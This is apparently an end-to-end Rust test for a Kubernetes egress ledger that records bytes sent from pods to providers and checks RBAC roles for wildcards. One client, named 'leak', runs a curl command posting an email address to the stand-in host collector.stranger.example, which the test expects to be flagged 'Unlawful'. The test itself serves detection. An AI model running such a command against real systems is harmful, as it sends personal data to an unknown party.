//! The whole way: what leaves the pods is what the ledger holds, to the byte.

use std::{collections::BTreeMap, time::Duration};

use landfall_tests::story::{self, Client, PROVIDERS, Story};

use crate::{
    processes,
    sums::{await_held, await_shown},
};

#[tokio::test(flavor = "multi_thread")]
#[ignore = "cluster story: make e2e"]
async fn the_ledger_holds_every_byte_that_left_the_pods() {
    let Some((story, providers)) = story::or_skip(Story::begin().await) else { return };
    let said = story.test().unwrap();
    assert!(said.contains("Succeeded") && said.contains("the installation can work"), "{said}");
    // Each provider is asked by one workload, so that its counters are those of the workload.
    let clients = [("assistant", "node-eu"), ("messaging", "node-us"), ("leak", "node-us")]
        .map(|(name, node)| Client::start(&story, name, node).unwrap());
    for (client, (_, host, _)) in std::iter::zip(&clients, PROVIDERS) {
        for _ in 0..3 {
            let send =
                "head -c 20000 /dev/zero | curl -sk --retry 20 --retry-delay 1 --retry-all-errors --data-binary @-";
            client.run(&story, &format!("{send} -o /dev/null https://{host}/")).unwrap();
        }
    }
    clients[2]
        .run(&story, "curl -s -d email=jane.roe@example.org -o /dev/null http://collector.stranger.example/")
        .unwrap();

    await_held(&story, &clients, &providers);
    // The objects say the same, as soon as their figures are written again.
    await_shown(&story, &clients, &providers);
    for provider in &providers {
        let counts = provider.counts(&story).unwrap();
        assert!(counts.body_in >= 60_000 && counts.ip_in > counts.body_in, "{counts:?}");
        eprintln!("{}: {counts:?}", provider.name);
    }
    judged_and_sealed(&story);
    processes::are_nobody(&story);
    nothing_was_forbidden(&story);
    record_batch(&story);
}

/// With `LANDFALL_RECORD_WIRE=FILE`, writes what one agent has sent, as it sends it, for `integration/wire/`.
fn record_batch(story: &Story) {
    let Some(file) = std::env::var_os("LANDFALL_RECORD_WIRE") else { return };
    let exported = story.ledger("export", &["--kind", "observation", "--body"]).unwrap();
    let of_agent = |line: &&str| line.contains("\"agent\":\"node-us\"");
    let batch: String = exported.lines().filter(of_agent).map(|line| [line, "\n"].concat()).collect();
    std::fs::write(file, zstd::encode_all(batch.as_bytes(), 1).unwrap()).unwrap();
}

/// What was judged says what the law says, and the sums of the judgments are those of the observations.
fn judged_and_sealed(story: &Story) {
    let outcomes = story
        .wait_for("judgments", || {
            let shown = story.ledger("show", &["-o", "json"]).map_err(|error| error.to_string())?;
            let edges = shown.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
            let outcome = |edge: &serde_json::Value| {
                let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
                (text(&edge["recipient"]), text(&edge["verdict"]["outcome"]))
            };
            let outcomes: BTreeMap<_, _> = edges.map(|edge| outcome(&edge)).collect();
            if outcomes.len() >= PROVIDERS.len() { Ok(outcomes) } else { Err(shown) }
        })
        .unwrap();
    eprintln!("{outcomes:?}");
    assert_eq!(outcomes["unregistered:stranger.example"], "Unlawful");
    assert!(outcomes.contains_key("openai") && outcomes.contains_key("twilio"), "{outcomes:?}");

    story
        .wait_for("a sealed segment", || {
            let verified = story.ledger("verify", &["-o", "json"]);
            let verified = verified.map_err(|error| error.to_string())?;
            if verified.contains("\"segments\":0") { Err(verified) } else { Ok(()) }
        })
        .unwrap();
}

/// Everything that the system asks of the API server it may ask, and no rule of it is a wildcard.
fn nothing_was_forbidden(story: &Story) {
    std::thread::sleep(Duration::from_secs(1));
    let entries = story.cluster.audit().unwrap();
    let ours = |user: &str| user.starts_with("system:serviceaccount:landfall-system:landfall-");
    let asked = entries.iter().filter(|entry| ours(&entry.user)).count();
    assert!(asked > 20, "{asked}");
    let forbidden: Vec<_> = entries.iter().filter(|entry| ours(&entry.user) && entry.is_forbidden()).collect();
    assert!(forbidden.is_empty(), "{forbidden:?}");
    let roles = story.cluster.kubectl(&["get", "clusterroles,roles", "-A", "-o", "json"], "").unwrap();
    let roles: serde_json::Value = serde_json::from_str(&roles).unwrap();
    let is_ours = |role: &&serde_json::Value| role["metadata"]["name"].as_str().unwrap().starts_with("landfall-");
    let ours: Vec<_> = roles["items"].as_array().unwrap().iter().filter(is_ours).collect();
    assert_eq!(ours.len(), 10);
    assert!(ours.iter().all(|role| !role["rules"].to_string().contains("\"*\"")), "{ours:?}");
}
